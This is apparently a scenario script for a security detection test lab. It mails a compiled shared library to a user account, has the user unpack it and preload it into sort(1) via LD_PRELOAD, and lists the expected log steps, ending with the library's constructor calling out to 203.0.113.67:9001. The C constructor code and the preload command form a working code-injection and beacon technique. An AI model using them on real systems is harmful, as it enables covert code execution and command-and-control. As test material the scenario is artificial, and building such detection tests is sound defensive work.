# What runs is a library: sort(1) is started, and sorts nothing else than usual.
title="Shared object out of a message, preloaded into an ordinary program"
what="The clerk unpacks a message of the spool with ripmime, copies the enclosed shared object into ~/.local/lib and starts sort with it in LD_PRELOAD. Its constructor connects to 203.0.113.67 port 9001."
host=mx1.example.org user=clerk daemons="cron sshd" store=mbox

setup() {
  cat > "$base/out/fix.c" <<'C'
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((constructor)) static void go(void) {
  struct sockaddr_in to = {.sin_family = AF_INET};
  to.sin_port = htons(9001);
  inet_pton(AF_INET, "203.0.113.67", &to.sin_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0 && write(fd, "hello\n", 6) < 0) return;
  close(fd);
}
C
  cc -shared -fPIC -O1 -s -o "$base/out/libcompat.so.1" "$base/out/fix.c"
}
act() {
  small_talk 2
  mail_in --from helpdesk@example.net --to clerk@example.org --subject "Compatibility library" --attach "$base/out/libcompat.so.1:application/x-sharedlib"
  wait_mail clerk 1; wait_log 'from=<helpdesk@example.net>'; sleep 1
  ssh_as clerk <<'L'
mkdir -p /tmp/in ~/.local/lib
ripmime -i /var/mail/clerk -d /tmp/in --overwrite
cp /tmp/in/libcompat.so.1 ~/.local/lib/
%sleep 2
LD_PRELOAD=$HOME/.local/lib/libcompat.so.1 sort /etc/hostname
%sleep 1
L
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the message is delivered'
  exec_step unpack 'ripmime -i /var/mail/clerk' 'its parts are unpacked'
  file_step copy 'cp open(at)?:write CREATE .*libcompat.so.1' 'the library gets its place'
  exec_step execute 'sort /etc/hostname' 'an ordinary program is started'
  file_step load 'sort open(at)?:read .*libcompat.so.1' 'the loader takes the library in'
  net_step beacon 'sort 203.0.113.67:9001' 'which calls out'
}
